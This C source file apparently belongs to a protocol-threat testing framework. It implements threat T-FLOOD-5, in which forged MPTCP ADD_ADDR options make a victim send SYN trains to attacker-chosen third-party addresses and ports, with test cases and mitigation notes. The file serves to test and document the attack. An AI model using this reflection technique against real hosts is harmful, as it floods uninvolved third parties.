/* threats/flood_5.c: T-FLOOD-5, a list of addresses that the victim then knocks at. */
#include "threats/record.h"

enum { TRAIN_S = 10, FIRST_ID = 10 };

static void run(struct plait_attack *a)
{
    plait_take_position(a);
    plait_step(a, "announces addresses of strangers over its own connection");
    struct plait_numbers numbers = plait_get_numbers(a, 0, PLAIT_ACCEPT_IN_WINDOW, NULL, NULL);
    for (uint8_t i = 0; i < PLAIT_STRANGERS; i++) {
        struct plait_segment segment = plait_forged(&numbers, PLAIT_ACK);
        struct plait_add_addr *option = &plait_add_option(&segment, PLAIT_ADD_ADDR)->add_addr;
        *option = (struct plait_add_addr){.addr_id = (uint8_t)(FIRST_ID + i),
                                          .addr = plait_stranger(a, i),
                                          .has_port = true,
                                          .port = (uint16_t)(7000 + i)};
        plait_seal(a, option);
        plait_send(a, &segment);
        plait_pause(a, 100 * PLAIT_MS);
    }
}

#define CASE(who, spoof)                                                                           \
    {                                                                                              \
        .form = "-", .position = "PART", .spoofing = spoof, .victim = who, .workload = PLAIT_IDLE, \
        .paths = 1, .goals = PLAIT_GOAL_BIT(REFLECT), .script = run,                               \
        .witnesses = {PLAIT_GRANT_POLICY}, .watch_ns = TRAIN_S * PLAIT_S                           \
    }

static const struct plait_case cases[] = {
    CASE(PLAIT_SERVER, false),
    CASE(PLAIT_SERVER, true),
    CASE(PLAIT_CLIENT, false),
};

const struct plait_threat plait_threat_flood_5 = {
    .info =
        {
            .id = "T-FLOOD-5",
            .title = "Address-list SYN spray",
            .kind = "threat",
            .source = "RFC 6181 §5, RFC 8684 §5",
            .section = SECTION_FLOODING,
            .summary =
                "One end of a connection names addresses of strangers; the other end sends each "
                "of them SYNs, to ports of the attacker's choice, without any spoofing.",
            .positions = PLAIT_LIST("PART"),
            .goals = PLAIT_LIST("reflect"),
            .mechanisms = PLAIT_LIST("v0", "v1"),
            .host_risk = "none",
            .stopped_by_text = "limits on accepted addresses; no document gives a protocol fix",
            .remains_text = "one train of SYNs for each address up to the limit",
            .wire_blind_text = "",
        },
    PLAIT_CASES(cases),
};
